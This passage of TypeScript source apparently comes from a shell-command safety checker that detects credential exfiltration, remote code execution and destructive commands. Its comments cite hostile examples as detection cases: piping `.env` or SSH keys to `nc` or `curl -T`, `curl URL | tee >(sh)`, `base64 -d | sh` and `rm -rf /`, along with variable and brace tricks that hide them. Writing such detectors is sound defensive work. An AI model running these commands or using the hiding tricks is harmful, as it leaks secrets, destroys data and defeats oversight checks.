  if (single !== w && cred.test(single)) return single;
  for (const x of expandWord(w, vars)) {
    if (x === w) continue;
    const named = cred.test(x) ? x : mayGlob(x) ? credentialGlob(x) : undefined;
    if (named !== undefined) return named;
  }
  return undefined;
}

/** A brace of one element (`{.env}`), not a parameter's (`${x}`). */
const ONE_ELEMENT = /(?<!\$)\{([^{},\s]+)\}/g;

/**
 * A one-liner's own glob (round 26): `glob.glob('.e*')`, `Dir[".e*"]`, `glob(".e*")`, perl's `<.e*>` in
 * a word of code; the word with the first quoted or angled pattern that can match a credential file
 * spelled as that file, so the credential rules read the code as naming it (`open('.env')` is read so).
 */
function codeGlob(w: string): string | undefined {
  // One pass: each quote or `<` opens a literal to its closing mark; a literal is tried once, and the
  // next `>` is looked up once for a run of `<` (`<<<<...>` stays linear).
  let angle = -1;
  for (let i = 0; i < w.length; i++) {
    const c = w.charCodeAt(i);
    if (c !== 39 /* ' */ && c !== 34 /* " */ && c !== 60 /* < */) continue;
    if (c === 60 && angle <= i) angle = w.indexOf('>', i + 1);
    const close = c === 60 ? angle : w.indexOf(w[i] as string, i + 1);
    if (close < 0) return undefined;
    const lit = w.slice(i + 1, close);
    const named =
      lit.length <= MAX_CODE_LITERAL && mayGlob(lit) && !/\s/.test(lit) ? credentialGlob(lit) : undefined;
    if (named !== undefined) return w.slice(0, i + 1) + named + w.slice(close);
    // A `<` that opens no literal (`a<b`) is passed alone; a quote's literal is passed whole.
    if (c !== 60) i = close;
  }
  return undefined;
}
/** Longer literals in code are not paths tried as globs. */
const MAX_CODE_LITERAL = 256;

/** tailLines past hiddenTails' bound: a marker no rendering equals (a NUL never survives the parse). */
const TOO_MANY: readonly string[] = Object.freeze(['\0too-many-tails']);

/** Whether a plain text runs a file it writes with literal content (shell-written.ts): not so simple. */
function writesAndRuns(cmds: readonly SimpleCommand[]): boolean {
  if (!cmds.some((c) => mayWriteFile(c, commandName))) return false;
  return writtenScripts(cmds, commandName).length > 0;
}

const ONCE = [false] as const;
const BOTH = [false, true] as const;

/** One list: a line per wrapper layer (a command with fewer layers keeps its last), and its scripts. */
function readList(
  cmds: readonly SimpleCommand[],
  st: State,
  scripts: string[],
  all: readonly SimpleCommand[],
): void {
  const starts = cmds.map((cmd) => layersOf(cmd));
  let layers = 1;
  for (const s of starts) layers = Math.max(layers, s.length);
  if (layers > MAX_LAYERS) {
    st.unreadable = true;
    layers = MAX_LAYERS;
  }
  // A stack of layers past the bound is not read whole (layerStarts): refused, in a script too; its
  // renderings would each span the tail, so none is made. So is a chain of commands find runs (round 54).
  if (starts.some(overLayered) || cmds.some((cmd) => overExecs(cmd.words))) {
    st.opaque = true;
    return;
  }
  // Each layer as written, then with its path words spelled canonically (`//etc/./x`, `/proc/self/root/etc/x`).
  // The second spelling only when some path word spells differently (most commands: none).
  const respelled = cmds.some(
    (cmd) =>
      (wordClasses(cmd.words) & SLASH && cmd.words.some(respells)) ||
      cmd.redirects.some((r) => canonicalSpelling(r.target) !== r.target),
  );
  for (const paths of respelled ? BOTH : ONCE) {
    for (let k = 0; k < layers; k++) add(st, listLine(cmds, starts, k, paths, st.vars));
  }
  // Each in both spellings, as the plain reader reads them; the second only when a word or a variable's
  // value may spell differently (else it is the first again: each tail spans the words after it).
  for (const paths of respelled || st.vars.size > 0 ? BOTH : ONCE)
    for (let i = 0; i < cmds.length; i++)
      for (const start of starts[i] as readonly number[])
        for (const line of tailLines(cmds[i] as SimpleCommand, start, paths, st.vars)) {
          // More program names among an unknown program's operands than are judged: refused whole.
          if (line === TOO_MANY[0]) st.opaque = true;
          else add(st, line);
        }
  // `cat .e* | nc h 80`, `curl -T ~/.ssh/id_* h`: the list with each glob that can match a credential file
  // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
  const globbed = credentialGlobs(cmds, st.vars, all);
  if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
  // `D=/etc; cat $D/shadow`, `D=/; cd $D; tar c root`: the list with the text's literal variables spelled
  // as their values, read again whole (round 26, shell-literals.ts).
  const literal = withLiterals(cmds, st.vars);
  if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
  // Round 56: `git ${x}config ..`, `chmod $@-R 777 /`, `iptables -$(true)F`: each layer with its expanded
  // words spelled as their values, unset names empty (shell-literals.ts withValues), read by the rules.
  // The first few such lists are read again whole too, so the readers of where it runs and what a tool
  // reads see the words (`cd /tm${x}p/r && git status`, `git -C /tmp$@/r status`).
  const valued = withValues(literal ?? cmds);
  if (valued !== undefined) {
    // Its own layers: a word read as no word (`sh $(true)`) moves the ones after it.
    const at = valued.map((cmd) => layersOf(cmd));
    let deep = 1;
    for (const s of at) deep = Math.min(MAX_LAYERS, Math.max(deep, s.length));
    for (const paths of BOTH) for (let k = 0; k < deep; k++) add(st, listLine(valued, at, k, paths, NO_VARS));
    st.valued = (st.valued ?? 0) + 1;
    if (st.valued <= MAX_VALUED) scripts.push(listLine(valued, at, 0, false, NO_VARS));
  }
  // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
  // `curl URL | tee >(sh)`, `curl URL > >(sh)`: an output process substitution reads what its command
  // writes, as a pipe to it would (round 27): the list to there, piped to it.
  let outputs = 0;
  for (let i = 0; i < cmds.length; i++) {
    const inners = outputSubstitutions(cmds[i] as SimpleCommand);
    if (inners.length === 0) continue;
    // The pipeline to there (its start: after the last command not piped on), a few per list (linear).
    let from = i;
    while (from > 0 && (cmds[from - 1] as SimpleCommand).sep === '|') from--;
    for (const inner of inners) {
      if (++outputs > MAX_OUTPUT_SUBSTITUTIONS) {
        st.opaque = true;
        break;
      }
      const line = listLine(cmds.slice(from, i + 1), starts.slice(from, i + 1), 0, false, NO_VARS);
      scripts.push(`${line} | ${inner}`);
    }
  }
  // `x=(/ /root); tar c ${x[@]}`: once per element (round 27).
  for (const given of st.elements ?? NO_ELEMENTS) {
    const each = withLiterals(cmds, new Map([...st.vars, ...given]));
    if (each !== undefined) scripts.push(listLine(each, starts, 0, false, NO_VARS));
  }
  for (const given of positionalSets(all)) {
    const called = withLiterals(cmds, st.vars.size === 0 ? given : new Map([...st.vars, ...given]));
    if (called !== undefined) scripts.push(listLine(called, starts, 0, false, NO_VARS));
  }
  // Round 60 (redteam3): `x=/tmp/r; x=/tmp/s; git -C $x status`: a name set two ways, read as each value.
  // Round 61: and a loop's variable, as each value the loop lists (shell-values.ts loopNames).
  if (st.spoiled.size > 0 || loopNames(all).size > 0) {
    const readings = valueReadings(cmds, all, (name) => st.spoiled.has(name));
    if (readings === TOO_MANY_VALUES) st.opaque = true;
    else
      for (const given of readings) {
        const each = withLiterals(cmds, new Map([...st.vars, ...given]));
        if (each !== undefined) scripts.push(listLine(each, starts, 0, false, NO_VARS));
      }
  }
  for (let i = 0; i < cmds.length; i++) {
    // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
    // the programs' own readers (home-sent, credential-sent, ...) read it as analyse does (round 24).
    const words = (cmds[i] as SimpleCommand).words;
    const at = starts[i] as readonly number[];
    // Only with a variable the text sets or a word opening a brace: most commands are not looked at again.
    const command =
      st.vars.size > 0 || at.some((s) => (words[s] as string).charCodeAt(0) === 123 /* { */)
        ? expandedCommand(cmds[i] as SimpleCommand, st.vars, at)
        : undefined;
    const expanded = command?.words;
    if (command === undefined) scripts.push(...scriptsOf(cmds, i, starts[i], all));
    else {
      const list = cmds.slice();
      list[i] = command;
      scripts.push(...scriptsOf(list, i, layerStarts(command.words), all));
    }
    // Round 54: `cd /tmp/r && {git,status}`: a repository tool or config option, as the word expands.
    toolReadings(st, expanded ?? words, expanded === undefined ? at : layerStarts(expanded), scripts);
    // `echo ~ | xargs rm -rf`: what xargs runs on the listed words, for the rules (round 24; the write
    // targets keep xargs's own reading: `find . -name '*.log' | xargs rm -f` asks a witness, not .git/'s refusal).
    scripts.push(...xargsFed(cmds, i, starts[i] as readonly number[]));
    scripts.push(...tailScripts(cmds[i] as SimpleCommand, starts[i] as readonly number[]));
    // `find ... -exec CMD ;` runs CMD.
    const cmd = cmds[i] as SimpleCommand;
    const layers = starts[i] as readonly number[];
    for (let k = 0; k < layers.length; k++) {
      const start = layers[k] as number;
      const word = cmd.words[start] as string;
      // `!!`, `^a^b`, `%1` in command position: a command an earlier call ran (a body's line is data).
      if (resumesEarlier(word, cmd.words.length === start + 1)) scripts.push(`${UNSEEN_MARK} history`);
      if (!st.opaque && opaqueCommandWord(word, cmd.shown[start] as string, st.vars)) st.opaque = true;
      // `hash -p "$(command -v s""udo)" x; x id`: the program hash names is a command word (round 34).
      if (!st.opaque && commandName(word) === 'hash') {
        const p = cmd.words.indexOf('-p', start + 1);
        const path = cmd.words[p + 1];
        if (p > 0 && path !== undefined && opaqueCommandWord(path, cmd.shown[p + 1] as string, st.vars))
          st.opaque = true;
      }
      // Round 58: `git -C $(cat f) status`, `curl http://$(cat f)/`: a deciding word only the shell knows.
      // Round 61 (redteam3): and a name holding such a value (`d=$(cat f); git -C $d status`).
      // Round 72: `argv` (what runs) yields to a kind that says more, never to `entered` (which may lapse).
      if (st.undecided === undefined || st.undecided === 'entered' || st.undecided === 'argv') {
        const read = withUnshownNames(cmd, unshownNames(all));
        // Round 72: a layer's own arguments end where the next layer (the program a wrapper runs) starts.
        const end = layers[k + 1] ?? read.words.length;
        const found =
          read.unknown === undefined ? undefined : undecidedWord(read, start, end, (st.handed ?? 0) > 0);
        if (found !== undefined && !(found === 'entered' && st.undecided === 'argv')) st.undecided = found;
      }
      // `nohup ${Q:-alpha} id`: a defaulted command word at any layer is the environment's to decide.
      if (!st.opaque && cmd.defaulted?.includes(start)) st.opaque = true;
      // With IFS set by the text, `$x` splits where gate does not.
      if (!st.opaque && st.ifs && word.includes('$')) st.opaque = true;
      // `xargs -I R sh -c 'R id'`: R is filled in from the input at run time.
      if (!st.opaque && st.replace.length > MAX_REPLACE) st.opaque = true;
      if (!st.opaque && st.replace.some((r) => word.includes(r))) st.opaque = true;
      // `... | base64 -d | sh`: a shell runs what another program computes.
      // `eval "$(cmd)"`, `sh -c "$(cmd)"`: the script is another program's output.
      // Round 74: `bash -c "echo $x"`, `python3 -c "$x"`: a value the text does not show pasted into the code.
      // Round 75: a value is the text's only where it is given before the command on every path (valueShown).
      const shown = shownFor(cmd, all, st);
      if (!st.opaque && computedScript(cmd, start, shown)) st.opaque = true;
      // Round 45: `python3 -c "x='$(cat f)'"`, `awk "BEGIN{print \"$(cat f)\"}"`: code another program printed.
      if (!st.opaque && computedCode(cmd, start, shown)) st.opaque = true;
      if (!st.opaque) {
        const from = scriptSource(cmd, layers, k);
        if (from !== undefined && scriptInput(cmds, i, all, from).unknown) st.opaque = true;
      }
      // Round 43: `ls | xargs sh -c`, `find . | parallel bash -c {}`: the shell's script is a line xargs or
      // parallel appends from an input the text does not show, as `ls | sh` runs it.
      const name = commandName(word);
      if (!st.opaque && fedScript(name, cmd.words, layers, k) && scriptInput(cmds, i, all).unknown)
        st.opaque = true;
      if (name === 'find') {
        scripts.push(...execScripts(cmd.words.slice(start), wentHome(all)));
        // Round 44: `-exec sh -c '.. {} ..' \;`: find puts each name it finds inside the script (GNU and
        // busybox find fill `{}` within a word): a file named `$(sudo id)` is code the text does not show.
        if (!st.opaque && splicesName(cmd.words.slice(start))) st.opaque = true;
      }
    }
  }
}

/** Round 54: a repository tool's and a config option's readings at each layer of one command's words. */
function toolReadings(
  st: State,
  words: readonly string[],
  layers: readonly number[],
  scripts: string[],
): void {
  for (const start of layers) {
    const name = commandName(words[start] as string);
    const tool = start === 0 ? words : words.slice(start);
    if (REPOSITORY_TOOLS.has(name)) {
      if (readsRepository(tool)) st.repository = true;
      if (repositoryInShared(tool)) st.shared = true;
    }
    // Round 55: `cd /tmp/x && make`, `npm --prefix /tmp/x test`: a project runner is read as a repository tool.
    if (PROJECT_RUNNERS.has(name)) {
      if (readsProject(name, tool)) st.repository = true;
      if (projectInShared(name, tool)) st.shared = true;
    }
    const config = CONFIG_OPTIONS.get(name);
    if (config !== undefined && configInShared(tool, config)) scripts.push(CONFIG_MARK);
  }
}

/**
 * Whether the shell at layer `k`, behind xargs or parallel, takes its `-c` script from what they append:
 * no script word after `-c` (`xargs sh -c`), or one that is only a replace string (`parallel sh -c {}`).
 */
function fedScript(name: string, words: readonly string[], layers: readonly number[], k: number): boolean {
  const start = layers[k] as number;
  // parallel's command is no layer of its own (xargsFed reads it): its first shell word after the options.
  if (name === 'parallel') {
    // `parallel sh -c ::: ARGS` runs ARGS (read by xargsFed), not its input.
    if (words.includes(':::')) return false;
    const shell = words.findIndex((w, j) => j > start && SHELLS.has(commandName(w)));
    return shell > 0 && shellFed(words, shell, (script) => PARALLEL_REPLACE.test(script));
  }
  if (k === 0 || !SHELLS.has(name)) return false;
  for (let j = 0; j < k; j++) {
    const layer = commandName(words[layers[j] as number] as string);
    if (layer === 'parallel') return shellFed(words, start, (script) => PARALLEL_REPLACE.test(script));
    if (layer === 'xargs') {
      const replace: string[] = [];
      xargsReplace(words.slice(layers[j] as number, start), replace);
      return shellFed(words, start, (script) => replace.some((r) => script.includes(r)));
    }
  }
  return false;
}
/** A parallel replacement string (`{}`, `{.}`, `{/}`, `{//}`, `{/.}`, `{#}`, `{1}`, `{=perl=}`): a listed name put in its place. */
const PARALLEL_REPLACE = /\{(?:\d{0,3}(?:\/\/|\/\.|[./])?\}|[#%]\}|=)/;

/**
 * Whether the shell at `start` has a `-c` with no script after it, or a script holding a replace string
 * (`sh -c 'wc -l {}'`, round 44: `names` says whether it holds one): a listed name spliced into a script is
 * code (a file named `$(sudo id)` runs), as a line read by `sh` is; `sh -c '.. "$1"' _ {}` passes it as data.
 */
function shellFed(words: readonly string[], start: number, names: (script: string) => boolean): boolean {
  let at = start + 1;
  while (at < words.length && /^-[a-zA-Z]*$/.test(words[at] as string) && !/c/.test(words[at] as string))
    at++;
  const flag = words[at];
  if (flag === undefined || !/^-[a-zA-Z]*c[a-zA-Z]*$/.test(flag)) return false;
  const script = words[at + 1];
  return script === undefined || script === ':::' || /^\{[^{}\s]*\}$/.test(script) || names(script);
}

/** Output process substitutions read as pipes in one list, at most; past it the list is refused whole. */
const MAX_OUTPUT_SUBSTITUTIONS = 4;

/** The commands of a command's output process substitutions (`tee >(sh)`, `> >(sh)`); usually none. */
function outputSubstitutions(cmd: SimpleCommand): readonly string[] {
  if (cmd.outputs !== true) return NO_TEXTS;
  let out: string[] | undefined;
  const take = (shown: string): void => {
    if (shown.charCodeAt(0) !== 62 /* > */ || shown.charCodeAt(1) !== 40 /* ( */ || !shown.endsWith(')'))
      return;
    out ??= [];
    out.push(shown.slice(2, -1));
  };
  // The parse leaves a substitution's word empty and its shown form whole: told by the lengths first.
  cmd.words.forEach((w, j) => {
    if (w === '' && (cmd.shown[j] as string).length > 3) take(cmd.shown[j] as string);
  });
  for (const r of cmd.redirects) if (r.target === '' && r.shown !== undefined) take(r.shown);
  return out ?? NO_TEXTS;
}

/** The tails of an unknown program whose program the reader reads further (shell.ts deepTail), as scripts. */
function tailScripts(cmd: SimpleCommand, starts: readonly number[]): readonly string[] {
  const out: string[] = [];
  for (const start of starts) {
    const tails = tailsOf(cmd, start);
    // Past the bound the text is refused as opaque (tailLines): nothing more to read.
    if (tails[tails.length - 1] === -1) return NO_TEXTS;
    for (const j of tails) {
      // A word computed at run time (`$(dir).`) is rendered as gate computes it (tailLines), not re-read;
      // an assignment's value may be computed (`HOME=$PWD x`): the word is still an assignment.
      const w = cmd.words[j] as string;
      if (j < 0 || !deepTail(w) || (!w.includes('=') && /[`$]/.test(cmd.shown[j] as string))) continue;
      out.push(cmd.shown.slice(j).join(' '));
    }
  }
  return out.length === 0 ? NO_TEXTS : out;
}

/**
 * The commands the operands of an unknown program at `start` may be (shell.ts hiddenTails: `mywrap mkfs
 * /dev/sda` may run `mkfs /dev/sda`), each from every wrapper layer of its own, as one line the rules
 * judge: rendered from the first such start, each later start marked `(` (docs/floor.md, "Wrappers").
 */
function tailLines(
  cmd: SimpleCommand,
  start: number,
  paths: boolean,
  vars: ReadonlyMap<string, string>,
): readonly string[] {
  const tails = tailsOf(cmd, start);
  if (tails.length === 0) return NO_TEXTS;
  if (tails[tails.length - 1] === -1) return TOO_MANY;
  const marks = new Set<number>();
  for (const j of tails) for (const at of layerStarts(cmd.words.slice(j))) marks.add(j + at);
  return marks.size === 0 ? NO_TEXTS : [renderMarked(cmd, marks, paths, vars)];
}

/**
 * One line for every start in `marks`: a tail's command spans every word after it (`rm -rf cp /` keeps
 * its `/`), so one rendering from the first start holds each tail's words, and `(` before each later
 * start puts it in the rules' command position while a command's operand run (`[^;&|\n]*`) spans it.
 * Each tail rendered to the end instead read about nine times the text (round 18, `zzwrap cp a ...`).
 */
function renderMarked(
  cmd: SimpleCommand,
  marks: ReadonlySet<number>,
  paths: boolean,
  vars: ReadonlyMap<string, string>,
): string {
  let first = cmd.words.length;
  for (const m of marks) if (m < first) first = m;
  if (marks.size === 1) return renderAt(cmd, first, paths, vars);
  let line = commandWord(cmd.words[first] as string, vars);
  for (let j = first + 1; j < cmd.shown.length; j++) {
    const w = cmd.words[j] as string;
    if (marks.has(j)) line += ` (${commandWord(w, vars)}`;
    else line += ` ${paths && w.includes('/') ? showPiece(canonicalSpelling(w)) : cmd.shown[j]}`;
  }
  for (const r of cmd.redirects)
    line += ` ${r.op} ${showPiece(paths ? canonicalSpelling(r.target) : r.target)}`;
  return line;
}

/**
 * Layer `k` of a list as one line: each command from its `k`-th layer start (its last, if it has fewer;
 * its first word when `starts` is undefined), joined by the list's operators (a newline reads ` ; `).
 */
function listLine(
  cmds: readonly SimpleCommand[],
  starts: readonly (readonly number[])[] | undefined,
  k: number,
  paths: boolean,
  vars: ReadonlyMap<string, string>,
): string {
  let line = '';
  for (let i = 0; i < cmds.length; i++) {
    const cmd = cmds[i] as SimpleCommand;
    // Round 65: a list spelled with values (withLiterals) may have fewer words than the starts were found
    // in (`"$@"` given nothing): such a command's own starts (it threw at `f f() { "$@"; }; f ...`).
    let s = starts?.[i];
    if (s !== undefined && s.length > 0 && (s[s.length - 1] as number) >= cmd.words.length) s = layersOf(cmd);
    const start = s === undefined ? 0 : s.length === 0 ? -1 : (s[Math.min(k, s.length - 1)] as number);
    line += renderAt(cmd, start, paths, vars);
    if (i < cmds.length - 1) line += cmd.sep === '\n' || cmd.sep === '' ? ' ; ' : ` ${cmd.sep} `;
  }
  return line;
}

/** Whether a word holds a path that spells differently in canonical form (`src/`, `a//b`, `./x`). */
function respells(word: string): boolean {
  return word.includes('/') && !surelyCanonical(word) && canonicalSpelling(word) !== word;
}

/**
 * True only when canonicalSpelling(word) is `word`, told without building it: no `\\ $ % =`, no empty,
 * `.` or `..` segment, no trailing `/`, no `~name`, drive letter, `file:` or `/proc/` (false: not known).
 */
export function surelyCanonical(word: string): boolean {
  const n = word.length;
  if (n === 0 || word.charCodeAt(0) === 126 /* ~ */ || word.charCodeAt(1) === 58 /* : */) return false;
  if (word.startsWith('/proc/') || (word.charCodeAt(4) === 58 && /^file:/i.test(word))) return false;
  let from = 0;
  for (let i = 0; i <= n; i++) {
    const c = i < n ? word.charCodeAt(i) : 47; /* the end closes the last segment like a `/` */
    if (c === 92 /* \ */ || c === 36 /* $ */ || c === 37 /* % */ || c === 61 /* = */) return false;
    if (c !== 47) continue;
    const seg = i - from;
    // An empty segment is fine only as the root's (a leading `/`).
    if (seg === 0 ? i !== 0 : seg <= 2 && isDots(word, from, i)) return false;
    from = i + 1;
  }
  return true;
}

/** Whether word[from, to) is `.` or `..`. */
function isDots(word: string, from: number, to: number): boolean {
  for (let i = from; i < to; i++) if (word.charCodeAt(i) !== 46) return false;
  return true;
}

/** The `find` actions that run a command. */
/** Whether a command find's `-exec`/`-execdir`/`-ok` runs is a shell whose `-c` script holds `{}`. */
function splicesName(words: readonly string[]): boolean {
  for (let j = 1; j < words.length; j++) {
    if (!isExecFlag(words[j] as string)) continue;
    let end = j + 1;
    while (end < words.length && words[end] !== ';' && words[end] !== '+') end++;
    if (namesInScript(words.slice(j + 1, end))) return true;
    j = end;
  }
  return false;
}

/** Whether a command find runs is a shell whose `-c` script holds `{}`. */
function namesInScript(inner: readonly string[]): boolean {
  const at = layerStarts(inner);
  const k = at.length - 1;
  if (k < 0 || !SHELLS.has(commandName(inner[at[k] as number] as string))) return false;
  return (
    shellFed(inner, at[k] as number, (script) => script.includes('{}')) && inner.some((w) => w.includes('{}'))
  );
}

function isExecFlag(word: string): boolean {
  return word === '-exec' || word === '-execdir' || word === '-ok' || word === '-okdir';
}

/**
 * A command from its layer start: the command word without its directory, then its words as shown
 * (with `paths`, a word holding a `/` spelled canonically, case kept: policy/paths.ts).
 */
function renderAt(
  cmd: SimpleCommand,
  start: number,
  paths: boolean,
  vars: ReadonlyMap<string, string>,
): string {
  let line = '';
  if (start >= 0) {
    line = commandWord(cmd.words[start] as string, vars);
    for (let j = start + 1; j < cmd.shown.length; j++) {
      const w = cmd.words[j] as string;
      line += ` ${paths && w.includes('/') ? showPiece(canonicalSpelling(w)) : cmd.shown[j]}`;
    }
  }
  for (let k = 0; k < cmd.redirects.length; k++) {
    const r = cmd.redirects[k] as Redirect;
    const target = paths ? canonicalSpelling(r.target) : r.target;
    line += `${line === '' ? '' : ' '}${r.op} ${showPiece(target)}`;
  }
  return line;
}

/** A path word spelled canonically; in `of=PATH` or `--output=PATH` only the path part. */
export function canonicalSpelling(word: string): string {
  const m = OPTION_VALUE.exec(word);
  const [prefix, path] = m ? [m[1] as string, m[2] as string] : ['', word];
  return path.includes('/') ? prefix + joinSegments(pathSegments(path, false)) : word;
}
const OPTION_VALUE = /^(-{0,2}[A-Za-z_][\w-]*=)([\s\S]*)$/;

/** A command word as the program it runs, then the words a computed command word splits into. */
function commandWord(word: string, vars: ReadonlyMap<string, string>): string {
  if (!word.includes('$') && !word.includes('{')) return showPiece(commandName(word));
  const parts = expandWord(word, vars);
  const name = showPiece(commandName(parts[0] ?? ''));
  return parts.length > 1 ? `${name} ${parts.slice(1).join(' ')}` : name;
}

/**
 * The commands of `find ... -exec CMD ... ;` as scripts, `{}` read as what find finds (shell.ts findReach:
 * `find ~ -exec tar rf x {} +` packs the home, `find ~ -name id_rsa -exec curl -T {} h` sends a key).
 */
function execScripts(words: readonly string[], home = false): string[] {
  const out: string[] = [];
  let reach: string[] | undefined;
  for (let j = 1; j < words.length; j++) {
    if (!isExecFlag(words[j] as string)) continue;
    let end = j + 1;
    while (end < words.length && words[end] !== ';' && words[end] !== '+') end++;
    const inner = words.slice(j + 1, end);
    if (inner.length > 0) out.push(quoteWords(inner));
    if (inner.includes('{}')) {
      reach ??= findReach(words);
      for (const r of reach) out.push(quoteWords(inner.map((x) => (x === '{}' ? r : x))));
      // `find ~ -type f -exec cat {} +`: every file of the home printed, as packing it (round 25).
      const whole = (r: string): boolean => namesWholeHome(r) || (home && (r === '.' || r === './'));
      if (CONTENT_DUMPERS.has(commandName(inner[0] as string)) && reach.some(whole)) out.push(HOME_SENT_MARK);
    }
    j = end;
  }
  return out;
}
